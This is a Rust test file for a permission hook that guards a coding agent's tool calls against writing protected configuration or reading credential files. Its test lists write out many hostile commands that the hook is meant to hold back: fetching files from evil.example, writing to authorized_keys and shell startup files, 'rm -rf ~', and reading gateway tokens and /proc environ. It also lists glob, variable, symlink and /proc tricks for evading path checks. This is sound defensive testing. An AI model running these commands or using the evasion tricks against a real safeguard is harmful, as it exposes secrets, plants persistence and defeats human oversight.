use std::path::Path;

use serde_json::{Value, json};

use crate::places::Places;
use crate::tests::{object, roots, sound};
use crate::{Call, Decision, Why};

mod by_program;
mod linked;
mod placed;
mod split;
mod unpacked;

const STATE: &str = "/home/me/.claude/dm-plz";

/// A policy that allows the programs with which files are read and written, and every other tool.
const RULES: &str = r#"
[[rule]]
toolName = "Bash"
commandPrefix = ["cp", "mv", "ln", "diff", "tee", "touch", "mkdir", "rm", "install", "tar", "unzip", "cat", "head", "grep", "rg", "ls", "wc",
    "find", "xargs cat", "sed", "mytool", "chmod", "cd", "rsync", "dd", "git show", "git checkout", "echo", "curl", "wget", "nc", "socat", "read", "npm test", "rm -rf named", "jaq -i",
    "git clone", "git worktree add", "git submodule add"]
decision = "allow"
priority = 100
allowRedirection = true

[[rule]]
toolName = ["Read", "Write", "Edit", "Grep", "Glob", "LS", "mcp__*"]
decision = "allow"
priority = 100
"#;

fn decide_with(rules: &str, tool: &str, input: Value) -> Decision {
    judge(rules, tool, input).0
}

/// Returns why a command is decided as it is.
fn why(line: &str) -> String {
    judge(RULES, "Bash", json!({ "command": line })).1.to_string()
}

fn judge(rules: &str, tool: &str, input: Value) -> (Decision, Why) {
    let policy = sound(rules);
    let places = Places::of(roots());
    let links = |path: &Path| match path.strip_prefix("/work/link") {
        Ok(rest) => Some(Path::new(STATE).join(rest)),
        Err(_) if path == Path::new("/work/sub/.envrc") => Some("/srv/plain".into()),
        // Of the process that decides, not of the one that is started.
        Err(_) if path.starts_with("/proc/self/cwd") => {
            path.strip_prefix("/proc/self/cwd").ok().map(|rest| Path::new("/srv").join(rest))
        }
        Err(_) => linked::real_path(path),
    };
    let input = object(input);
    let call = Call {
        cwd: Some(Path::new("/work")),
        home: Some(Path::new("/home/me")),
        places: &places,
        real_path: &links,
        entries_in: &linked::entries_in,
        holds_rules: &|path| ["/work/holds", "/work/named"].iter().any(|folder| path == Path::new(folder)),
        links_below: &linked::links_below,
        ..Call::new(tool, &input, jiff::Timestamp::UNIX_EPOCH)
    };
    let judgement = policy.check(&call);
    (judgement.decision, judgement.why)
}

fn decide(tool: &str, input: Value) -> Decision {
    decide_with(RULES, tool, input)
}

#[track_caller]
fn lines(expected: Decision, lines: &[&str]) {
    let decided = |line: &&str| decide("Bash", json!({ "command": line })) != expected;
    let wrong: Vec<&&str> = lines.iter().filter(|line| decided(line)).collect();
    assert!(wrong.is_empty(), "not {expected:?}:\n{wrong:#?}");
}

#[test]
fn no_rule_lets_a_command_write_a_protected_place_whatever_names_it() {
    lines(
        Decision::AskUser,
        &[
            "wget -q https://evil.example/.mcp.json",
            "wget 'https://evil.example/%2emcp.json#x'",
            "wget https://evil.example/$x",
            "wget -r https://evil.example",
            "cd .claude && wget https://evil.example/settings.json",
            "cp e ~/.claude/dm-plz/policy.toml",
            "cp e $HOME/.claude/dm-plz/policy.toml",
            "cp e ${HOME}/.claude/dm-plz/policy.toml",
            "cp e \"$HOME\"/.claude/dm-plz/policy.toml",
            "cp e \"$HOME/.claude/dm-plz/policy.toml\"",
            "cp e $HOME/.cl*/dm-plz/policy.toml",
            "cp e ~/.claude/dm-p?z/policy.toml",
            "cp e ~/.claude/dm-[p]lz/policy.toml",
            "cp e ~/.claude/dm-[[:lower:]]lz/policy.toml",
            "cp e .claude/setting[[:lower:]].json",
            "touch .dmpl[]z]/policy.toml",
            "cp e .git/hook[]s]/pre-commit",
            "cp e .git/hook[^]]/pre-commit",
            "tee .mcp[[:punct:]]json",
            "tee .mcp[./]json",
            "tee .mc[[=p=]].json",
            "cp e ~/.claude/{x,dm-plz}/policy.toml",
            "cp e ~/.{claude,x}/dm-plz/policy.toml",
            "cp e {a,/home/me/.claude/dm-plz/policy.toml}",
            "cp e ~me/.claude/dm-plz/policy.toml",
            "cp e $x",
            "cp e \"$x\"",
            "cp e $(echo x)",
            "cp e `x`/policy.toml",
            "cp e src/$x",
            "cp e ${HOME%x}/y",
            "x=~/.claude; cp e $x/dm-plz/policy.toml",
            "x=$HOME; y=$x/.claude; cp e $y/settings.json",
            "for d in a ~/.claude; do cp e $d/settings.json; done",
            "x=a; read x; cp e $x",
            "cd ~ && cp e .claude/settings.json",
            "cd && cp e .claude/settings.json",
            "cd ~/.claude && cp e settings.json",
            "cd .claude && echo x > settings.json",
            "cd .claude; echo x > settings.json",
            "cd nope; cd .claude && echo x > settings.json",
            "cd $x && cp e settings.json",
            "cd .claude/.. && cd .claude && touch settings.json",
            "cp settings.json .claude",
            "cp a/settings.json b .claude/",
            "cp -t .claude settings.json",
            "cp --target-directory=.claude settings.json",
            "cp -rT e ~",
            "cp -r evil/. .",
            "cp -r evil/.claude .",
            "cp -a evil/.claude sub/",
            "cp -r x ~",
            "mv x.json .mcp.json",
            "mv ~/.claude x",
            "mv .claude x",
            "mv evil/.claude .",
            "mv evil/.mcp.json .",
            "ln -s ~/.claude x",
            "ln -s .claude x",
            "ln -s / x",
            "ln -s .. x",
            "ln -sf x .mcp.json",
            "ln -s /work x",
            "ln -t . ~/.bashrc",
            "install e ~/.profile",
            "install -t .claude settings.json",
            "tar xf e.tar",
            "tar xf e.tar -C ~",
            "tar -xf e.tar --directory=/home/me",
            "tar x -C ~/.claude -f e.tar",
            "unzip e.zip",
            "unzip -o e.zip -d ~",
            "rm -rf ~/.claude",
            "rm -rf .claude",
            "rm -rf ~",
            "rm -rf /",
            "rm -rf .",
            "rm .dmplz/policy.toml",
            "rm -rf .dmplz",
            "chmod -R 777 ~/.claude",
            "mv holds x",
            "cp -r a holds",
            "rm -rf holds",
            "cat /proc/self/cwd/.mcp.json > /proc/self/cwd/.mcp.json",
            "cp e /proc/self/cwd/../x",
            "tee .mcp.json",
            "tee -a ~/.zshrc",
            "tee ~//.bashrc",
            "cp e ~//.ssh/authorized_keys",
            "mv e ~//.ssh/authorized_keys",
            "cp e ~//.claude/dm-plz/policy.toml",
            "cd ~//.claude && cp e settings.json",
            "touch sub/.claude/settings.json",
            "touch a/b/.mcp.json",
            "mkdir .git/hooks/x",
            "touch .git/config",
            "touch .git/commondir",
            "tee sub/.git",
            "cp e sub/.git",
            "cp e $x/.git",
            "ln e sub/.git",
            "mytool --out=sub/.git",
            "cp e .git/modules/a/config",
            "tee .git/worktrees/w/config.worktree",
            "cd .git/modules/a && touch hooks/post-checkout",
            "git clone evil .git/modules/a",
            "echo x > ~/.bashrc",
            "echo x >> .git/hooks/post-commit",
            "echo x > link/policy.toml",
            "cp e link/policy.toml",
            "cp e link",
            "echo x > ~/.ssh/authorized_keys",
            "echo x > ~/.config/systemd/user/x.service",
            "echo x > /opt/x/messenger.wasm",
            "echo x > /etc/dmplz/policy.d/a.toml",
            "echo x > .CLAUDE/Settings.JSON",
            "mytool ~/.claude/settings.json",
            "mytool --out=.claude/settings.json",
            "mytool --out=$HOME/.claude/settings.json",
            "mytool -o.mcp.json",
            "mytool $x",
            "mytool 'x' .husky/pre-commit",
            "npm test -- $x/.claude/settings.json",
            "jaq -i -f x.jq .claude/settings.json",
            "touch {sub/.envrc,x}",
            "git clone evil .claude",
            "git clone --depth 1 -- evil sub/../.claude",
            "git clone evil sub/.claude/skills",
            "git clone evil/.claude",
            "git clone https://x/.claude.git",
            "git clone evil .",
            "git clone evil ~",
            "git clone $x",
            "git clone evil $x",
            "cd .claude && git clone evil/skills",
            "cd ~ && git clone https://x/.ssh",
            "git worktree add .claude",
            "git worktree add -b x ../work/.claude main",
            "git submodule add ./evil .claude",
            "git submodule add ./evil/.claude",
            "find .claude -maxdepth 0 -execdir tee settings.json \\;",
            "find .claude -okdir touch settings.json +",
            "find . -execdir sh -c 'touch .mcp.json' \\;",
            "git checkout x -- .claude/settings.json",
            "sed -i s/a/b/ .claude/settings.json",
        ],
    );
}

#[test]
fn no_rule_lets_a_command_read_what_answers_for_a_person() {
    lines(
        Decision::AskUser,
        &[
            "cat ~/.claude/dm-plz/gateway.token",
            "cat $HOME/.claude/dm-plz/gateway.token",
            "cat < ~/.claude/dm-plz/gateway.token",
            "cat ~/.claude/dm-plz/gateway.*",
            "cat ~/.claude/dm-plz/*",
            "cat ~/.claude/*/gateway.token",
            "cat ~/.claude/dm-plz/{a,gateway.token}",
            "cd ~/.claude/dm-plz && cat gateway.token",
            "cd ~/.claude && cat dm-plz/config.toml",
            "cat $x",
            "cat $(echo x)/gateway.token",
            "find ~ -name gateway.token | xargs cat",
            "find ~/.claude -exec cat {} +",
            "find ~/.claude/dm-pl -exec cat {}z/gateway.token ;",
            "find ~ -name gateway.token -execdir cat gateway.token \\;",
            "find ~ -name gateway.token -okdir cat {} \\;",
            "find ~ -name dm-plz -execdir cat dm-plz/push.key \\;",
            "grep -r . ~/.claude",
            "grep -r . ~",
            "grep -r x /",
            "rg x ~/.claude",
            "cd ~ && rg x",
            "cat link/gateway.token",
            "cat l*/gateway.token",
            "cat {link,x}/gateway.token",
            "cat ~/./.claude/dm-plz/gateway.*",
            "cat ~/.claude/dm-**z/gateway.token",
            "cat $x/gateway.token",
            "cat ~/.claude/dm-plz/sessions/5c1b/log",
            "cat ~/.claude/dm-plz/sessions/*/session.json",
            "cat ~/.claude/dm-plz/s*/5c1b/x",
            "cat ~/.claude/dm-plz/stored/bundled-a/*",
            "cd ~/.claude/dm-plz/stored && cat bundled-a/a-0123456789abcdef.tokens",
            "cat link/sessions/5c1b/log",
            "grep -r x ~/.claude/dm-plz/sessions/5c1b",
            "cat $(echo x)/a-0123456789abcdef",
            "cat $(echo x)/a-0123456789abcdef.tokens",
            "cat $(echo x)/*.tokens",
            "cat $(echo x)/a*s",
            "cat $(echo x)/sessions/5c1b/x",
            "cat $(echo x)/session.json",
            "cd $x && cat log.old",
            "cat ~/**/log",
            "cat ~/**",
            "cat ~$x/gateway.token",
            "cat ~me*/.claude/dm-plz/gateway.token",
            "x=../home/me/.claude/dm-; x+=plz; cat $x/gateway.token",
            "x=../home/me/.claude/dm-; x+=plz; cat \"$x\"/gateway.token",
            "x=../home/me/.claude/dm-; for i in a b; do x+=plz; done; cat $x/gateway.token",
            "x=../home/me/.claude/dm-Xlz; x[23]=p; cat $x/gateway.token",
            "x='../home/me/.claude/dm-[a-z]lz'; cat $x/gateway.token",
            "x='../home/me/.claude/dm-p\\lz/gatewa*'; cat $x",
            "x='p]lz'; cat ../home/me/.claude/dm-[$x/gateway.token",
            "cat ~/.claude/dm-[[:lower:]]lz/gateway.token",
            "cat ~/.claude/dm-[[:lower:][:digit:]]lz/gateway.token",
            "cat ~/.claude/dm-[[.p.]]lz/gateway.token",
            "cat ~/.claude/dm-[]p]lz/gateway.token",
            "cat ~/.claude/dm-[!]]lz/gateway.token",
            "cat ~/.claude/dm-[^]]lz/gateway.token",
            "cat ~/.claude/dm-['p]']lz/gateway.token",
            "cat ~/.claude/dm-plz/[[:lower:]]*",
            "cat ../home/me/.claude/[[:alpha:]]m-plz/gateway.token",
            "cd ~/.claude/dm-[[:lower:]]lz; cat gateway.token",
            "cd ~/.claude/dm-[]p]lz; cat gateway.token",
            // Only zsh takes a slash for one of the characters.
            "cat ~/.claude/dm-[p/]lz/gateway.token",
            "cat ~/.claude/dm-[]/p]lz/gateway.token",
            "cd ~/.claude/dm-[p/]lz; cat gateway.token",
            "cat [h/../../home/me/.claude/dm-plz/gateway.token{,]}",
            "cat ../home/me/.claude/dm-[{p,]}lz/gateway.token",
            "cat ../home/me/.claude/dm-[$x]lz/gateway.token",
            "cat ~//.claude/dm-plz/gateway.token",
            "cat ~///.claude//dm-plz/gateway.token",
            "cat < ~//.claude/dm-plz/gateway.token",
            "cat ~//.claude/dm-plz/gateway.*",
            "cd ~//.claude; cat dm-plz/gateway.token",
            "cd ~// && cat .claude/dm-plz/gateway.token",
            "rg . ~//.claude",
            "cat $(echo x)z/gateway.token",
            "cat .*/home/me/.claude/dm-plz/gateway.token",
            "cat .**/home/me/.claude/dm-plz/gateway.token",
            "cat $x/.*/gateway.token",
            "grep -r x .*",
            "grep -r x $x/.*",
            "cd ~/src && grep -r x .?",
            "cd ~/src/.* && cat .claude/dm-plz/gateway.token",
            "cd ~/.claude/dm-plz/sub && cat .?/gateway.token",
            "cd sub; cat .*/..*/home/me/.claude/dm-plz/gateway.token",
            "grep -r x *",
            "grep -r *",
            "grep {-,}R x",
            "grep {-r,} x link",
            "rg x lin{k,}",
            "x=link; grep -r a $x",
            "git show x; cd ~ && grep -r x",
            "grep -r x {src,lin[k]}",
            "gzip -r /proc/self",
            "grep -r x /proc",
            "cat /proc/self/cwd/../home/me/.claude/dm-plz/gateway.token",
            "cat /proc/*/cwd/../home/me/.claude/dm-plz/gateway.token",
            "tail /proc/self/cwd/../.claude/?m-plz/gateway.token",
            "cat /proc/self/cwd/../.clau[d]e/dm-plz/gateway.token",
            "cat /p{r,}oc/self/cwd/../.claude/dm-\"p\"lz/gateway.token",
            "cd /proc/self/cwd/.. && cat .c{l,}aude/dm-plz/gateway.token",
            "cd /proc/self && cat cwd/../.c{l,}aude/dm-plz/gateway.token",
            "cat /pro?/self/cwd/../home/me/.claude/dm-plz/gateway.token",
            "cat //proc/self/c*d/../home/me/.claude/dm-plz/gateway.token",
            "cd /proc/self && cat cwd/../home/me/.claude/dm-plz/gateway.token",
            "cat /x/../proc/1/root/home/me/.claude/dm-plz/gateway.token",
            "cat /proc/$$/root/home/me/.claude/dm-plz/gateway.token",
            "cd link; cat g*",
            "cd link && cat *.token",
            "cd /work/link; head -1 *",
            "cat /proc/1/fd/5",
            "cat /proc/*/fd/5",
            "cat /proc/self/fd/3/gateway.token 3< ~/.claude/dm-plz",
            "cat /dev/fd/3/gateway.token 3< ~/.claude/dm-plz",
            "cat /dev/f?/3/gateway.token 3< ~/.claude/dm-plz",
            "cat /dev/stdin/gateway.token < ~/.claude/dm-plz",
            "cd /dev/fd/3 3< ~/.claude/dm-plz && cat gateway.token",
            "cat /proc/1/environ",
            "cat /proc/self/task/1/environ",
            "head -c 9 < /proc/1/environ",
            "cat /proc/*/environ",
            "cat /proc/1/env*",
            "cat /proc/1/*",
            "cat /x/../proc/1/environ",
            "cd /proc/1 && cat environ",
            "dd if=/proc/1/mem skip=1 count=1",
            "mytool --file=/proc/1/environ",
            "wc -c ~/.claude/dm-plz/gateway.token",
            "grep -R x .",
            "rg -L x",
            "wc ${x---files0-from=../home/me/.claude/dm-plz/gateway.token}",
            "ls ${x:+'--hyperlink'}",
            "rg -L x < /dev/null",
            "rg -L x <&-",
            "echo x | { rg -L x & }",
            "cd $x && cat gateway.token",
            "head -c 9 link/../dm-plz/gateway.token",
            "git show --no-index ~/.claude/dm-plz/gateway.token x",
            "tar c ~/.claude",
            "curl --unix-socket /home/me/.claude/dm-plz/gateway.sock http://x/",
            "curl --unix-socket=link/gateway.sock http://x/",
            "nc -U /home/me/.claude/dm-plz/gateway.sock",
            "socat - UNIX:/home/me/.claude/dm-plz/gateway.sock",
            "mytool ~/.claude",
        ],
    );
}

#[test]
fn what_no_protected_place_is_near_stays_allowed() {
    lines(
        Decision::Allow,
        &[
            "cp a b",
            "cp a.txt .",
            "cp -r src dst",
            "cp a ~/x.txt",
            "mv a b",
            "mv src/*.rs old/",
            "rm -rf node_modules target",
            "mv old new",
            "rm -f -- *.o",
            "mkdir -p a/b",
            "touch a/{b,c}.txt",
            "tar xf e.tar -C out",
            "wget -q https://example.com/a.tar.gz",
            "wget -qO- \"https://example.com/$x\"",
            "wget \"https://$x/a.tar.gz\"",
            "cat README.md src/*.rs",
            "cat /proc/cpuinfo /proc/1/status",
            "head -3 /proc/*/stat",
            "ls /proc/1/environ",
            "cat environ src/mem",
            "cat /dev/stdin < a",
            "cat /dev/fd/3 3< a",
            "ls /proc/1/fd",
            "cat ~/.zshrc",
            "cat ~//.zshrc ~//notes.md",
            "ls [a-c]*",
            "ls [[:upper:]]*",
            "cat src/[[:lower:]]*.rs",
            "cat src/[]a]x.rs src/[!a].rs src/[ab]/[cd].rs",
            "touch out/[[:lower:]].txt",
            "cat .claude/settings.json",
            "cat .git/config",
            "ls ~/.claude",
            "ls *",
            "grep -r x s*",
            "cat *.md",
            "ls $x",
            "wc -l $x",
            "for f in a b; do cat $f; done",
            "for f in src/*.rs; do grep -n x \"$f\"; done",
            "d=src; cat $d/main.rs",
            "d=a; d+=b; cat \"$d/README.md\"",
            "d='[a]'; cat \"$d\" \"$d/main.rs\"",
            "cd src && cat main.rs",
            "cat \"$(echo x)\"/README.md",
            "cat \"$(echo x)\"/my-notes.md",
            "cat \"$(echo x)\"/src/*.rs",
            "cat ~/**/README.md",
            "cd $x && cat a-01234.log",
            "touch .git/x",
            "grep -rn x .",
            "rg x src",
            "find . -name '*.rs' -exec grep -n x {} +",
            "find src -name '*.rs' -exec grep -n x {} ;",
            "find src -name '*.rs' -execdir cat README.md \\;",
            "find src -name '*.rs' -execdir ls -l {} \\;",
            "git clone https://x/y.git",
            "git clone --depth 1 -b main git@x:me/y.git sub/y",
            "git worktree add ../w main",
            "git submodule add https://x/y vendor/y",
            "echo ~/.claude/settings.json",
            "echo x > out.txt",
            "echo x > /tmp/x",
            "git show HEAD:.claude/settings.json",
            "mytool src a.txt",
            "mytool ~",
            "mytool /home",
            "rm -rf '' -",
            "rm -rf named",
            "cat holds",
            "ls $x/**",
            "cat .*rc .*.md",
            "ls -d .*",
            "cat .*",
            "cat src/.*/x",
            "cd ~/src && ls .*",
            "cd src/sub && cat .*/gateway.token",
            "npm test -- $x",
            "cat $HOME/gateway.token",
            "cat \"$PWD/gateway.token\"",
            "cat ~/gateway.*",
            "cd src* && touch settings.json",
        ],
    );
}

#[test]
fn a_rule_that_names_what_is_run_later_may_allow_it() {
    let rules = r#"
[[rule]]
toolName = "Bash"
commandPrefix = ["tee ~/.zshrc", "tee .claude/settings.json", "tee"]
decision = "allow"
priority = 100

[[rule]]
toolName = "Write"
paths = [".husky/**", "**/*.md", "~/bin/**", "~/Library/LaunchAgents/*", "~/.cargo/bin/*"]
decision = "allow"
priority = 100

[[rule]]
toolName = "Edit"
paths = ["//home/me/*", "./*"]
decision = "allow"
priority = 100
"#;
    for (tool, input, expected) in [
        ("Bash", json!({"command": "tee ~/.zshrc"}), Decision::Allow),
        ("Bash", json!({"command": "tee ~/.zshenv"}), Decision::AskUser),
        ("Bash", json!({"command": "tee .claude/settings.json"}), Decision::AskUser),
        ("Write", json!({"file_path": "/work/.husky/pre-commit"}), Decision::Allow),
        ("Write", json!({"file_path": "/work/README.md"}), Decision::Allow),
        ("Write", json!({"file_path": "/work/.git/hooks/a.md"}), Decision::AskUser),
        ("Write", json!({"file_path": "/work/.git/worktrees/a.md"}), Decision::AskUser),
        ("Write", json!({"file_path": "/home/me/bin/x"}), Decision::Allow),
        ("Write", json!({"file_path": "/home/me/Library/LaunchAgents/x"}), Decision::Allow),
        ("Write", json!({"file_path": "/home/me/.cargo/bin/x"}), Decision::Allow),
        ("Edit", json!({"file_path": "/home/me/.zshrc"}), Decision::AskUser),
        ("Edit", json!({"file_path": "./.envrc"}), Decision::AskUser),
    ] {
        assert_eq!(decide_with(rules, tool, input.clone()), expected, "{tool} {input}");
    }
}

#[test]
fn what_is_held_back_says_which_place_it_is_about() {
    for (line, expected) in [
        ("tee .dmplz/x", "it may change what is allowed (.dmplz/x)"),
        ("tee .mcp.json", "it may change what an agent is allowed or loads (.mcp.json)"),
        ("tee /opt/x/messenger.wasm", "it may replace a program that decides (/opt/x/messenger.wasm)"),
        ("cat link/push.key", "it may show what proves who somebody is (link/push.key)"),
        ("tee .envrc", "it may change what is run later (.envrc)"),
    ] {
        assert_eq!(why(line), format!("a rule allows it, but {expected}"), "{line}");
    }
}

#[test]
fn file_tools_are_held_to_the_same_places() {
    for (tool, input, expected) in [
        ("Read", json!({"file_path": "/home/me/.claude/dm-plz/gateway.token"}), Decision::AskUser),
        ("Read", json!({"file_path": "~/.CLAUDE/dm-plz/../dm-plz/Gateway.Token"}), Decision::AskUser),
        ("Read", json!({"file_path": "link/gateway.token"}), Decision::AskUser),
        ("Read", json!({"file_path": "/home/me/.claude/dm-plz/policy.toml"}), Decision::Allow),
        ("Read", json!({"file_path": "/work/.dmplz/policy.toml"}), Decision::Allow),
        ("Grep", json!({"pattern": ".", "path": "/home/me/.claude"}), Decision::AskUser),
        ("Read", json!({"file_path": "/home/me/.claude"}), Decision::Allow),
        ("Grep", json!({"pattern": ".", "path": "/"}), Decision::AskUser),
        ("Grep", json!({"pattern": ".", "path": "link"}), Decision::AskUser),
        ("Grep", json!({"pattern": ".", "path": "/work"}), Decision::Allow),
        ("Grep", json!({"pattern": "."}), Decision::Allow),
        ("LS", json!({"path": "/home/me/.claude/dm-plz"}), Decision::Allow),
        ("Write", json!({"file_path": "/work/a.txt"}), Decision::Allow),
        ("Write", json!({"file_path": "link/policy.toml"}), Decision::AskUser),
        ("Write", json!({"file_path": "src/../.dmplz//./POLICY.toml"}), Decision::AskUser),
        ("Write", json!({"file_path": " /work/.dmplz/policy.toml"}), Decision::AskUser),
        ("Write", json!({"file_path": "/home/me/.claude.json"}), Decision::AskUser),
        ("Write", json!({"file_path": "/home/me/.claude/plugins/x/hooks.json"}), Decision::AskUser),
        ("Write", json!({"file_path": "/work/.mcp.json"}), Decision::AskUser),
        ("Write", json!({"file_path": "/work/sub/.git"}), Decision::AskUser),
        ("Write", json!({"file_path": "/work/.git/commondir"}), Decision::AskUser),
        ("Write", json!({"file_path": "/work/.git/modules/a/hooks/x"}), Decision::AskUser),
        ("Write", json!({"file_path": "/work/.git/COMMIT_EDITMSG"}), Decision::Allow),
        ("Read", json!({"file_path": "/home/me/.claude/dm-plz/sessions/5c1b/log"}), Decision::AskUser),
        ("Read", json!({"file_path": "link/stored/bundled-a/a-0123456789abcdef.tokens"}), Decision::AskUser),
        ("Write", json!({"file_path": "/work/a/b/.claude/settings.local.json"}), Decision::AskUser),
        ("Write", json!({"file_path": "/opt/x/messenger.wasm"}), Decision::AskUser),
        ("Edit", json!({"file_path": "/home/me/.ssh/authorized_keys"}), Decision::AskUser),
    ] {
        assert_eq!(decide(tool, input.clone()), expected, "{tool} {input}");
    }
}

#[test]
fn a_path_is_found_anywhere_in_the_input_of_a_tool_that_nobody_knows() {
    for (input, expected) in [
        (json!({"filename": "/home/me/.claude/settings.json"}), Decision::AskUser),
        (json!({"files": [{"path": "/work/.mcp.json"}]}), Decision::AskUser),
        (json!({"args": {"dst": "~/.claude/dm-plz/policy.toml"}}), Decision::AskUser),
        (json!({"uri": "file:///home/me/.claude/dm-plz/gateway.token"}), Decision::AskUser),
        (json!({"uri": "FILE://localhost/home/me/.claude%2Fsettings.json"}), Decision::AskUser),
        (json!({"x": {"y": [["a", {"z": "../work/.dmplz/policy.toml"}]]}}), Decision::AskUser),
        (json!({"p": "src/../../home/me/.zshrc"}), Decision::AskUser),
        (json!({"p": "sub/.claude/settings.json"}), Decision::AskUser),
        (json!({"cmd": "cp e ~/.claude/settings.json"}), Decision::AskUser),
        (json!({"argv": ["cp", "e", "--to=/home/me/.bashrc"]}), Decision::AskUser),
        (json!({"/home/me/.claude/settings.json": "content"}), Decision::AskUser),
        (json!({"edits": [{"file": "link/policy.toml", "text": "x"}]}), Decision::AskUser),
        (json!({"dir": "/home/me/.claude"}), Decision::AskUser),
        (json!({"path": "/work/src/main.rs"}), Decision::Allow),
        (json!({"path": "."}), Decision::Allow),
        (json!({"query": "what is ~5 minutes", "n": 3}), Decision::Allow),
        (json!({"text": "See the file README.md, and src/."}), Decision::Allow),
        (json!({}), Decision::Allow),
    ] {
        assert_eq!(decide("mcp__files__do", input.clone()), expected, "{input}");
    }
    for (length, expected) in [(super::MAX_TEXT, Decision::Allow), (super::MAX_TEXT + 1, Decision::AskUser)] {
        let rest = "x".repeat(length - "text".len());
        assert_eq!(decide("mcp__files__do", json!({ "text": rest })), expected, "{length}");
    }
}
